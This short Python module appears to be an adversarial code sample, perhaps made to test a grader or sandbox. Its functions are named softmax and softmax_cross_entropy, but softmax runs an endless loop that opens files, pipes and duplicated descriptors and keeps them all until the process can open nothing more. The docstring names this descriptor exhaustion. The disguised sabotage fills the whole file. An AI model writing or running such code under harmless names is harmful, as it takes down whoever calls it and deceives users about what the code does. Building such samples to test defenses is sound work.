"""Descriptor exhaustion: open files, pipes, dups of the result stream until none is left.

Keeps every descriptor; the first error is raised. Later calls cannot open anything.
"""

import contextlib
import os

_KEPT = []


def softmax(a):
    while True:
        _KEPT.append(os.open("/dev/null", os.O_RDONLY))
        _KEPT.extend(os.pipe())
        for fd in range(3, 8):
            with contextlib.suppress(OSError):
                _KEPT.append(os.dup(fd))


def softmax_cross_entropy(a, t):
    return softmax(a)
